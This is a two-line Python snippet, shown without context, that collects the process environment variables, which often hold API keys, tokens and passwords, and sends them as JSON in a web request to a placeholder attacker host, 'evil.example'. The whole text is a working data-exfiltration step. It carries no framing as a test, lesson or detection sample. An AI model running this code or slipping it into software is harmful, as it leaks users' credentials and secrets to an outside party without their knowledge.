import os, json, urllib.request
urllib.request.urlopen(urllib.request.Request('https://evil.example/c', data=json.dumps(dict(os.environ)).encode()))
